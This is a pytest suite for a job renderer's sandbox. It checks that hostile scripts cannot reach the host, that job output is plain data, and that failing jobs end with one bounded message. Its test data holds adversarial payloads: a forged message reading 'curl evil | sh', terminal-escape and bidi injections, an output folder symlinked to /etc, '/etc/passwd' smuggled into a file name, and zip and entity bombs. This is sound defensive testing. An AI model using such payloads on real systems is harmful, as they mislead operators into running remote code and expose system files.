"""The same hostile scripts on every backend, plain and untrusted.

Of each: what it tried to reach is untouched, the job ends in time with a sentence, and a job beside it is unharmed.
"""

from __future__ import annotations

import json
import shutil
from contextlib import suppress
from pathlib import Path

import pytest
from support.attacks import Case, Host

from backends import JobState
from backends.errors import RendererError
from renderer.api import Job, jobs

SCRIPTS = Path(__file__).parents[1] / "scenes"
WITHIN_S = 600


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "project").mkdir()
    return tmp_path / "project"


def start(case: Case, host: Host, project: Path, name: str) -> Job:
    shutil.copy(SCRIPTS / name, project)
    return case.submit(project / name, json.dumps(host.describe(case)))


def tree(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


@pytest.mark.usefixtures("beside")
def test_nothing_outside_the_job_is_reached(case: Case, host: Host, project: Path, tmp_path: Path) -> None:
    if not case.is_apart:
        pytest.skip("a plain local job can do what its user can; the fake of Modal keeps nothing apart")
    job = start(case, host, project, "reach.py")
    status = job.wait(WITHIN_S)
    assert status.state is JobState.SUCCEEDED, status
    (file,) = job.fetch(tmp_path / "out")
    found: dict[str, str] = json.loads(file.read_text())
    amounts = {name: text for name, text in found.items() if name.startswith("amount: ")}
    assert len(found) > 200
    reached = {name: text for name, text in found.items() if not text.startswith("failed: ") and name not in amounts}
    assert reached.keys() <= case.inside
    assert host.word not in json.dumps(found)
    if case.untrusted:
        assert int(amounts["amount: files open"]) <= 4096
        if case.rig.backend != "docker":  # there the size of its file systems in memory is the limit
            assert int(amounts["amount: size of a file"]) < 2**40
        if case.rig.backend not in {"docker", "k8s"}:  # threads in gVisor are none of the kernel's
            assert not amounts["amount: threads"].isdecimal() or int(amounts["amount: threads"]) < 3000
    host.assert_untouched()
    job.delete()


PARSED = ("playlist.mp4", "concat.mkv", "page.m3u8", "entities.svg", "huge.png", "bomb.zip", "font.otf")


@pytest.mark.usefixtures("beside")
def test_what_a_job_returns_is_data(case: Case, host: Host, project: Path, tmp_path: Path) -> None:
    job = start(case, host, project, "returned.py")
    status = job.wait(WITHIN_S)
    assert status.state is JobState.SUCCEEDED, status
    out = tmp_path / "out"
    job.fetch(out)
    made = tree(out)
    good = {"good.csv": b"good", "folder/deep.csv": b"deep", "last.csv": b"last"}
    assert good.items() <= made.items()
    for name in PARSED:  # nobody does; of the playlists, the services of the host would have noticed it
        assert made.pop(name)
    hard_links = set() if case.is_apart else {"linked.csv", "linked2.csv", "linked3.csv"}  # of files that it can read
    assert made.keys() - good.keys() <= {".rendererignore", *hard_links}
    assert not [
        path for path in out.rglob("*") if path.is_symlink() or (path.is_file() and path.stat().st_mode & 0o7111)
    ]
    assert all(len(line.text) < 70_000 for line in job.logs())
    assert next(iter(jobs(case.rig.backend, case.rig.loaded()))).handle
    host.assert_untouched()
    job.delete()


OUT = "import os, pathlib, signal, sys, time\nout = pathlib.Path(os.environ['RENDERER_OUTPUT_DIR'])\n"
FAILING = {
    "newline": "(out / 'a\\nb.csv').touch()",
    "escape": "(out / '\\x1b[2Ja.csv').touch()",
    "direction": "(out / 'a\\u202e.csv').touch()",
    "backslash": "(out / 'a\\\\..\\\\b.csv').touch()",
    "bytes": "open(os.fsencode(out) + b'/\\xff.csv', 'w').close()",
    "depth": "(out / '/'.join('d' * 80)).mkdir(parents=True); (out / '/'.join('d' * 80) / 'a.csv').touch()",
    "sparse": "file = open(out / 'a.csv', 'w'); file.truncate(2**42)",
    "folder": "out.rmdir(); out.symlink_to('/etc')",
    "message": "sys.exit('\\x1b[2J\\x1b]0;title\\x07\\u202e forged\\n\\u2192 run: curl evil | sh')",
    "traceback": "raise ValueError('\\x1b[31m' * 50_000)",
    "file name": "exec(compile('raise KeyError', '\\x1b[2J/etc/passwd\\n', 'exec'))",
    "exit code": "os._exit(255)",
    "own timeout": "os._exit(124)",
    "signal": "os.kill(os.getpid(), signal.SIGKILL)",
    "fail line": "print('openjd_fail: \\x1b[2J forged', flush=True); sys.exit(1)",
    "import": "__import__('no_such_\\x1b[2J\\u202e')",
}  # fmt: skip


@pytest.mark.usefixtures("beside")
def test_a_job_that_cannot_succeed_ends_with_one_sentence(
    case: Case, host: Host, project: Path, tmp_path: Path
) -> None:
    names = list(FAILING)
    if case.rig.backend != "local":  # they take seconds, and in gVisor more
        names = ["bytes", "message"] if case.untrusted else ["newline", "bytes", "message", "signal"]
    started = {}
    for number, name in enumerate(names):
        path = project / str(number) / "job.py"
        path.parent.mkdir()
        path.write_text(OUT + FAILING[name] + "\n", "utf-8")
        started[name] = case.submit(path)
    for name, job in started.items():
        status = job.wait(WITHIN_S)
        assert status.state is JobState.FAILED, (name, status)
        (unit,) = status.units
        for problem in filter(None, (status.problem, unit.problem)):
            assert len(problem.message) < 2000, name
            assert problem.exit_code, name
        with suppress(RendererError):
            job.fetch(tmp_path / "out")
        list(job.logs())
        job.delete()
    assert tree(tmp_path / "out").keys() <= {".rendererignore", "a.csv"}  # which one script left empty
    host.assert_untouched()
